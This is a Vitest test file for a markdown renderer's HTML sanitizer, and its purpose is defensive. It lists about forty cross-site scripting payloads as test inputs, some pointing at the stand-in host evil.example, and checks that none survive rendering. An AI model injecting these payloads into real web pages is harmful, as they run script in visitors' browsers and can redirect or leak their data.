import rehypeRaw from 'rehype-raw';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { expect, test } from 'vitest';
import { renderMarkdown } from './render.ts';

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="javascript:alert(1) 1x">',
  '![a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](<\u0001javascript:alert(1)>)',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](blob:https://example/1)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="/a" onclick="alert(1)" style="position:fixed">a</a>',
  '<a href="/a" target="_blank" ping="//evil.example">a</a>',
  '<svg onload=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">a</a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>body{display:none}</style>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=x></object><embed src=x><applet code=x></applet>',
  '<form action=//evil.example><button formaction="javascript:alert(1)">a</button><input type=password name=p></form>',
  '<video src=x onloadstart=alert(1) poster="javascript:alert(1)"><source src="javascript:alert(1)" onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>a</details>',
  '<input autofocus onfocus=alert(1) type=image src=x>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
  '`<script>alert(1)</script>` <b\tonmouseover=alert(1)>a</b>',
  '<h1 id="__proto__" name="cookie" class="fixed inset-0">a</h1>',
  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  'a[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
];

const forbidden = new Set(
  'script style svg math iframe object embed link meta base form button textarea select template noscript applet'.split(
    ' ',
  ),
);
const parse = unified().use(remarkParse).use(remarkRehype, { allowDangerousHtml: true }).use(rehypeRaw);

test.each(hostile)('nothing of %j can act', async (markdown) => {
  const { html } = await renderMarkdown(markdown);
  // Judged on the tree that a browser would build of the answer, not on its letters.
  const tree = parse.runSync(parse.parse(`<div>${html.replace(/\n+/g, ' ')}</div>`));
  visit(tree, (node) => {
    expect(['comment', 'doctype', 'raw']).not.toContain(node.type);
    if (node.type !== 'element') return;
    expect(forbidden).not.toContain(node.tagName);
    for (const [name, value] of Object.entries(node.properties)) {
      expect(name).not.toMatch(/^on|style|srcDoc|srcSet|action|target|ping|^name$/i);
      if (['href', 'src', 'poster', 'cite'].includes(name)) {
        expect(String(value)).toMatch(/^(https?:|mailto:|tel:|\/|#|[^:]*$)/);
      }
      if (name === 'id') expect(String(value)).toMatch(/^in-text-/);
      if (name === 'className') expect(String(value)).not.toMatch(/fixed|inset/);
    }
    if (node.tagName === 'input') expect(node.properties).toMatchObject({ type: 'checkbox', disabled: true });
  });
});
